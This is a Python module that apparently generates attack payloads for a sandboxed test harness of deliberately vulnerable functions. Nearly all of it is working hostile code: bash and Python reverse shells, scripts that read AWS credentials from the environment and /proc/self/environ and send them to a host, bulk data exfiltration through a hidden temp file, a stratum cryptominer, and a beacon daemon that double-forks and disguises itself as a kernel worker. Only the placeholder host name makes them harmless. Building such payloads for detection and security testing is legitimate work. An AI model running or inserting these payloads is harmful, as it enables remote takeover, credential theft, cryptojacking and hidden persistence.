"""Code the attacks run inside the vulnerable functions: Python snippets (for the pickle and
eval injections) and shell lines (for the shell injection). Ports are the host services'."""

import base64

HOST = "host.sandbox"


def reverse_shell_bash(port):
    return f"bash -c 'bash -i >& /dev/tcp/{HOST}/{port} 0>&1'"


def reverse_shell_python(port):
    return (f"[__import__('subprocess').call(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s) "
            f"for s in [__import__('socket').create_connection(('{HOST}', {port}))]]")


def steal_env_http(port):
    return f"""
import json, os, urllib.request
creds = {{k: v for k, v in os.environ.items() if k.startswith('AWS_')}}
req = urllib.request.Request('http://{HOST}:{port}/c', data=json.dumps(creds).encode(),
                             method='POST', headers={{'Content-Type': 'application/json'}})
urllib.request.urlopen(req, timeout=3).read()
"""


def steal_proc_environ_socket(port):
    return f"""
import socket
raw = open('/proc/self/environ', 'rb').read()
found = b'&'.join(v for v in raw.split(b'\\0') if v.startswith(b'AWS_'))
s = socket.create_connection(('{HOST}', {port}), timeout=3)
s.sendall(b'POST /e HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(found) + found)
s.recv(1024)
s.close()
"""


def steal_curl(port):
    return f"curl -s -m 3 -X POST --data-binary @/proc/self/environ http://{HOST}:{port}/k"


def _dump_code(total):
    """Builds `total` bytes that look like a table dump (plus the function's own code)."""
    return f"""
import os
parts, size = [], 0
for root, _, names in os.walk('/var/task'):
    for name in names:
        try:
            parts.append(open(os.path.join(root, name), 'rb').read())
        except OSError:
            pass
size = sum(len(p) for p in parts)
n = 0
while size < {total}:
    row = b'%d,cust%07d,user%d@example.com,DE%018d,+49 %09d\\n' % (n, n, n, n * 7919, n * 31)
    parts.append(row * 64)
    size += len(row) * 64
    n += 1
dump = b''.join(parts)[:{total}]
"""


def exfil_stream(port, total):
    return _dump_code(total) + f"""
import socket
s = socket.create_connection(('{HOST}', {port}), timeout=5)
s.sendall(dump)
s.shutdown(socket.SHUT_WR)
s.recv(16)
s.close()
"""


def exfil_chunked(port, total, chunk):
    return _dump_code(total) + f"""
import socket
for at in range(0, len(dump), {chunk}):
    s = socket.create_connection(('{HOST}', {port}), timeout=5)
    s.sendall(dump[at:at + {chunk}])
    s.shutdown(socket.SHUT_WR)
    s.recv(16)
    s.close()
"""


def exfil_staged(port, total):
    return _dump_code(total) + f"""
import os, socket
path = '/tmp/.cache-{port}.tar'
open(path, 'wb').write(dump)
s = socket.create_connection(('{HOST}', {port}), timeout=5)
with open(path, 'rb') as f:
    s.sendfile(f)
s.shutdown(socket.SHUT_WR)
s.recv(16)
s.close()
os.remove(path)
"""


def miner(port, algorithm, budget_s, agent, worker):
    hashing = {
        "sha256d": "h = hashlib.sha256(hashlib.sha256(blob).digest()).digest(); hit = h[-2:] == b'\\0\\0'",
        "scrypt": "h = hashlib.scrypt(blob, salt=header[:16], n=1024, r=1, p=1, dklen=32); hit = h[0] == 0",
        "blake2b": "h = hashlib.blake2b(blob, digest_size=32).digest(); hit = h[:2] == b'\\0\\0'",
    }[algorithm]
    return f"""
import hashlib, json, socket, struct, time
s = socket.create_connection(('{HOST}', {port}), timeout=5)
f = s.makefile('rwb')
def send(m):
    f.write((json.dumps(m) + '\\n').encode()); f.flush()
send({{'id': 1, 'method': 'mining.subscribe', 'params': ['{agent}']}})
send({{'id': 2, 'method': 'mining.authorize', 'params': ['{worker}', 'x']}})
job = None
while job is None:
    m = json.loads(f.readline())
    if m.get('method') == 'mining.notify':
        job = m['params']
header = bytes.fromhex(job[1]) + bytes.fromhex(job[2])
end, nonce, ident = time.time() + {budget_s}, 0, 3
while time.time() < end:
    for _ in range(200):
        nonce += 1
        blob = header + struct.pack('<I', nonce)
        {hashing}
        if hit and ident < 40:
            send({{'id': ident, 'method': 'mining.submit',
                  'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
            ident += 1
if ident == 3:  # no share found in time: report the best effort anyway
    send({{'id': ident, 'method': 'mining.submit',
          'params': ['{worker}', job[0], '00000000', job[7], '%08x' % nonce]}})
s.close()
"""


def beacon_loop(port):
    return (f"n=0; while :; do n=$((n+1)); (echo \"beat $n $$\" > /dev/tcp/{HOST}/{port}) 2>/dev/null; "
            f"sleep 0.3; done")


def beacon_daemon(port):
    """A Python daemon that double-forks, renames itself and beacons every 0.3 s."""
    return f"""import ctypes, os, socket, time
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
ctypes.CDLL(None).prctl(15, b'kworker/u4:2', 0, 0, 0)
n = 0
while True:
    n += 1
    try:
        s = socket.create_connection(('{HOST}', {port}), timeout=2)
        s.sendall(b'beat %d %d\\n' % (n, os.getpid()))
        s.close()
    except OSError:
        pass
    time.sleep(0.3)
"""


def b64(data):
    return base64.b64encode(data if isinstance(data, bytes) else data.encode()).decode()
